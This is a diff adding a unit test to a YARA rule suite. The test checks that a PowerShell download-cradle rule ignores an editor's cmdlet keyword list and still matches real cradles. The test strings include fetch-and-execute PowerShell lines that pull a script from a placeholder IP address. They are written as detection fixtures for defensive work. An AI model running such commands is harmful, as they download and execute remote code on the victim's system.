@@ -103,6 +103,20 @@ def test_a_table_of_cmdlet_names_is_no_cradle() -> None:
     assert _matched(rules, hidden + b".DownloadString('http://203.0.113.7/a.ps1'))")
 
 
+def test_an_alternation_of_cmdlet_names_is_no_cradle() -> None:
+    """mediawiki's ace editor: its PowerShell mode lists cmdlets as a regular expression's
+    alternation (``...|Invoke-Expression|Invoke-RestMethod|Invoke-WebRequest|...``). A pipe
+    with spaces into a download, or a cradle beside the list, still matches."""
+    rules = RULES_DIR / "powershell_download_cradle.yar"
+    keywords = b'var builtinFunctions = "Get-Item|Invoke-Expression|Invoke-RestMethod|'
+    keywords += b'Invoke-WebRequest|Out-String";\n'
+    assert _matched(rules, keywords) == []
+    assert _matched(rules, keywords.decode().encode("utf-16-le")) == []
+    cradle = b"Invoke-Expression (Invoke-WebRequest -Uri https://203.0.113.7/a.ps1).Content"
+    assert _matched(rules, keywords + cradle)
+    assert _matched(rules, b"Invoke-Expression | Invoke-WebRequest https://203.0.113.7/a.ps1")
+
+
 def test_user_rule_directories_recursive_with_includes(tmp_path: Path) -> None:
     rules = tmp_path / "rules"
     write(
